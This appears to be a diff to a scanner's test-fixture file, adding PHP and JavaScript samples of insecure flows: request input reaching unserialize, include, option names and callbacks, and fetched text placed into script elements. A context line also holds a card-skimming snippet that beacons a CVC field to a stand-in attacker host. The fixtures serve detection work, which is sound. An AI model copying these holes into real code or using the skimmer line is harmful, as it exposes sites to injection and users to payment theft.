@@ -93,6 +93,34 @@ export const idiomSamples: readonly FlowSample[] = [
       "class Registry extends ArrayObject { function item($id) { return $this->offsetGet($id); } } $item = (new Registry())->item($_GET['id']); require $item['file'];",
     ],
   ),
+  php(
+    "a list into which more is put later",
+    "unserialize-received",
+    "a:1",
+    ["$kept = $_POST['a']; $kept[] = 1; unserialize($kept);"],
+    ["$kept = $order->getKept(); $kept = unserialize($kept); $kept[$_POST['event']] = $_POST['id']; keep($kept);"],
+  ),
+  php(
+    "what filters are told besides",
+    "include-received",
+    "a:1",
+    ["$at = apply_filters('pay_template', $_GET['t'], $args); include $at;"],
+    ["$at = apply_filters('pay_template', locate(), $_GET['t']); include $at;"],
+  ),
+  php(
+    "an option by a name that begins with one's own",
+    "account-takeover",
+    "a:1",
+    ["update_option(sprintf('%s_token', $_POST['mode']), $x);"],
+    ["update_option(sprintf('pay_%s_token', $_POST['mode']), $x);"],
+  ),
+  php(
+    "an object as a callback",
+    "call-received",
+    "a:1",
+    ["array_map($_POST['f'], $list);"],
+    ["array_map(new Attach($_POST['f']), $list); class Attach { function __invoke($x) { return $x; } }"],
+  ),
   {
     title: "a picture of the package, drawn into the page",
     rule: "include-disguised",
@@ -136,6 +164,16 @@ export const idiomSamples: readonly FlowSample[] = [
       "const at = 'https://stat.evil-cdn.net/c'; const cvc = '#my-card-cvc'; navigator.sendBeacon(at, document.querySelector(cvc).value);",
     ],
     ["const at = 'https://github.com/a/b'; const cvc = '#my-card-cvc'; $.ajax({ url: '/pay', data: cvc });"],
+  ),
+  js(
+    "a library's own way to run what a page was answered",
+    "eval-hidden",
+    "a:1",
+    ["$.get('/x').then((code) => { const s = document.createElement('script'); s.text = code; });"],
+    [
+      "function run(code) { const s = document.createElement('script'); s.text = code; }",
+      "const convert = (text) => run(text); const done = (text) => convert(text); fetch('/x').then((r) => r.text()).then((text) => done(text));",
+    ],
   ),
   js(
     "a table of functions and an unknown key",
